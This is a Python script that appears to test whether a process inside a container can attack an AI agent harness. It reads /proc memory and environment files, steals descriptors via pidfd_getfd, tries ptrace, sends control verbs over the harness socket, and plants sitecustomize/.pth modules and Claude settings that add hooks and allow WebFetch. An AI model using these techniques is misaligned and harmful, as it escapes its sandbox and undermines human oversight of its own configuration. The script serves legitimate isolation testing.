"""What a process beside a harness tries on it, from inside the container. Standard library only.

`python inside_harness.py PID` attacks that process, and prints as JSON what it got. Without PID it looks for the harness.
"""

import array
import contextlib
import ctypes
import json
import os
import socket
import sys

VERBS = {
    "publish": {"events": [{"kind": "state", "state": "idle", "since": "2030-01-01T00:00:00.000Z"}]},
    "begin_turn": {"message_ids": [1]},
    "turn_ended": {"stats": {}},
    "control": {},
    "ack_turn": {},
    "requeue_inflight": {},
}
PLANTED = "import os, sys\nif 'harness.main' in ' '.join(sys.orig_argv): open(os.environ['HIVE_STATE_DIR'] + '/planted', 'w')\n"
PIDFD_OPEN, PIDFD_GETFD = 434, 438
PTRACE_SEIZE, PTRACE_ATTACH = 0x4206, 16
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]


def processes():
    return [int(name) for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid()]


def words(pid):
    with contextlib.suppress(OSError), open(f"/proc/{pid}/cmdline", "rb") as file:
        return file.read().decode(errors="replace").split("\0")
    return []


def harness():
    return next(pid for pid in processes() if "harness.main" in words(pid)[1:6])


def told_on_socket(**request):
    with socket.socket(socket.AF_UNIX) as hive:
        hive.connect(os.environ["HIVE_SOCKET"])
        hive.sendall(json.dumps(request).encode() + b"\n")
        return json.loads(hive.makefile().readline())


def opened(pid):
    """What of /proc/PID can be opened that tells secrets or leads on."""
    found = []
    for name in ("environ", "maps", "mem", "auxv", "syscall", "stack", "map_files", "root/proc", "cwd/."):
        with contextlib.suppress(OSError):
            handle = os.open(f"/proc/{pid}/{name}", os.O_RDONLY)
            if name in ("map_files", "root/proc", "cwd/.") or name == "mem" or os.read(handle, 1):
                found.append(name)
            os.close(handle)
    for number in range(64):
        for flags in (os.O_RDONLY | os.O_NONBLOCK, os.O_WRONLY | os.O_NONBLOCK):
            with contextlib.suppress(OSError):
                os.close(os.open(f"/proc/{pid}/fd/{number}", flags))
                found.append(f"fd/{number}")
    return found


def robbed(pid, everything):
    """Descriptors taken out of a process; of others than the harness only such that answer like its line."""
    found = []
    handle = libc.syscall(PIDFD_OPEN, pid, 0)
    if handle < 0:
        return found
    for number in range(64):
        copy = libc.syscall(PIDFD_GETFD, handle, number, 0)
        if copy < 0:
            continue
        if everything or is_line(copy):
            found.append([pid, number])
        os.close(copy)
    os.close(handle)
    return found


def is_line(descriptor):
    with contextlib.suppress(OSError), socket.socket(fileno=os.dup(descriptor)) as one:
        if one.family == socket.AF_UNIX and one.type == socket.SOCK_SEQPACKET:
            one.settimeout(2)
            one.send(b"connect")
            return one.recv(100) == b"ok"
    return False


def traced(pid):
    return any(libc.ptrace(request, pid, None, None) == 0 for request in (PTRACE_SEIZE, PTRACE_ATTACH))


def memory(pid):
    """Whether the first bytes of a library that is mapped at the same place can be read over there."""
    local, here = ctypes.create_string_buffer(8), ctypes.c_void_p.in_dll(libc, "environ")
    iovec = array.array("L", [ctypes.addressof(local), 8])
    there = array.array("L", [ctypes.addressof(here), 8])
    address, other = iovec.buffer_info()[0], there.buffer_info()[0]
    got = libc.process_vm_readv(pid, ctypes.c_void_p(address), 1, ctypes.c_void_p(other), 1, 0)
    return got >= 0 or ctypes.get_errno() not in (1, 3)  # EPERM, ESRCH; EFAULT would mean that it was allowed


def written(pid):
    """Files that decide what the harness or Claude does, which can be written all the same."""
    program = next(
        (part for part in words(pid) if part.endswith("/harness/wire/interpreter/run.py")), "/run/hive/agent.json"
    )
    alone = "/agents/alice"
    places = [
        "/etc/claude-code/managed-settings.json", "/etc/ld.so.preload", "/etc/profile.d/x.sh", f"{alone}/harness/session.json",
        f"{alone}/harness/outbox.jsonl", program, sys.executable, "/run/hive/agent.json", "/run/hive/x", "/run/x", "/usr/x",
    ]  # fmt: skip
    for around, folders, files in os.walk("/"):
        folders[:] = [one for one in folders if os.path.join(around, one) not in ("/proc", "/sys", "/usr", "/nix")]
        places += [os.path.join(around, one) for one in files if one in ("session.json", "outbox.jsonl")]
    found = []
    for place in places:
        with contextlib.suppress(OSError):
            os.makedirs(os.path.dirname(place), exist_ok=True)
            with open(place, "a"):
                found.append(place)
    return found


def plant():
    """Leave modules where a Python of this user may find them at its next start, and settings where Claude may."""
    home, state, claude = (os.environ[name] for name in ("HOME", "HIVE_STATE_DIR", "CLAUDE_CONFIG_DIR"))
    site = f"{home}/.local/lib/python{sys.version_info[0]}.{sys.version_info[1]}/site-packages"
    modules = (
        f"{site}/usercustomize.py",
        f"{site}/sitecustomize.py",
        f"{state}/sitecustomize.py",
        f"{state}/asyncio.py",
    )
    hook = {"hooks": [{"type": "command", "command": f"touch {state}/hooked"}]}
    settings = json.dumps({
        "hooks": {name: [hook] for name in ("SessionStart", "UserPromptSubmit", "PreToolUse", "Stop")},
        "permissions": {"allow": ["WebFetch"]},
    })  # fmt: skip
    for path, content in (
        *((module, PLANTED) for module in modules),
        (f"{site}/x.pth", f"import os; exec({PLANTED!r})\n"),
        *(
            (f"{claude}/{name}", settings)
            for name in ("settings.json", "remote-settings.json", "managed-settings.json")
        ),
        *(
            (f"{place}/.claude/{name}", settings)
            for place in (home, state)
            for name in ("settings.json", "settings.local.json")
        ),
    ):
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as file:
            file.write(content)


def status(word):
    with open("/proc/self/status") as lines:
        return next(line.split()[1] for line in lines if line.startswith(word))


def main():
    pid = int(sys.argv[1]) if len(sys.argv) > 1 else harness()
    told = {
        "opened": opened(pid),
        "robbed": [one for other in processes() for one in robbed(other, other == pid)],
        "memory": memory(pid),
        "inherited": [number for number in range(3, 64) if is_line(number)],
        "environment": [name for name in os.environ if "LINE" in name],
        "written": written(pid),
        "capabilities": status("CapEff"),
        "uid": os.getuid(),
    }
    if "HIVE_SOCKET" in os.environ:
        told["verbs"] = {cmd: told_on_socket(cmd=cmd, **more).get("code") for cmd, more in VERBS.items()}
        told["scripts"] = [told_on_socket(cmd=cmd)["ok"] for cmd in ("whoami", "status", "recent", "loose_ends")]
        plant()
    told["traced"] = traced(pid)  # the last: it may stop its target for ever
    print("told", json.dumps(told))


if __name__ == "__main__":
    main()
